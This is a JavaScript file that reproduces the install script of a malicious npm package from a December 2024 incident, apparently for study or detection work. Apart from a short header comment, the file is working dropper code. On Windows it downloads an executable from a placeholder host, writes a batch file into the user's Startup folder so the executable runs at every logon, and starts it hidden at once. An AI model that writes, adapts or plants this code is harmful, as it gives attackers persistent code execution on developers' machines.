// Incident: @typescript_eslinter/eslint (npm, December 2024). On Windows the install script
// fetched an executable, saved it next to a batch file named prettier.bat in the current
// user's Startup folder, so it ran at every logon, and started it once right away.
// Reference: https://socket.dev/blog/malicious-npm-packages-target-typescript-eslint-and-types-node
// Reproduction (own code, placeholder host).
"use strict";

const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { spawn } = require("child_process");

if (os.platform() !== "win32") process.exit(0);

const startup = path.join(
  process.env.APPDATA || path.join(os.homedir(), "AppData", "Roaming"),
  "Microsoft", "Windows", "Start Menu", "Programs", "Startup",
);
const exe = path.join(os.homedir(), "AppData", "Local", "Temp", "npm.exe");
const bat = path.join(startup, "prettier.bat");

function download(url, dest, cb) {
  https
    .get(url, (res) => {
      if (res.statusCode !== 200) return cb(new Error(String(res.statusCode)));
      const out = fs.createWriteStream(dest);
      res.pipe(out);
      out.on("finish", () => out.close(cb));
    })
    .on("error", cb);
}

download("https://eslint-cdn.example/dist/npm.exe", exe, (err) => {
  if (err) return;
  try {
    fs.mkdirSync(startup, { recursive: true });
    fs.writeFileSync(bat, `@echo off\r\nstart "" /b "${exe}"\r\n`);
    spawn(exe, [], { detached: true, stdio: "ignore", windowsHide: true }).unref();
  } catch (_e) {
    // ignore
  }
});
